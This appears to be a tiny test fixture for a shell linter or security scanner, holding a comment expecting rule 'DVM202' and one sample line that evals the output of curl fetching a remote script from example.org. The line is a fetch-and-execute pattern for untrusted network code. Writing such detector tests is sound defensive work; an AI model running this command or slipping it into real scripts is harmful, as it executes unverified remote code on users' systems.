# expect: DVM202
eval `curl -s https://example.org/env.sh`
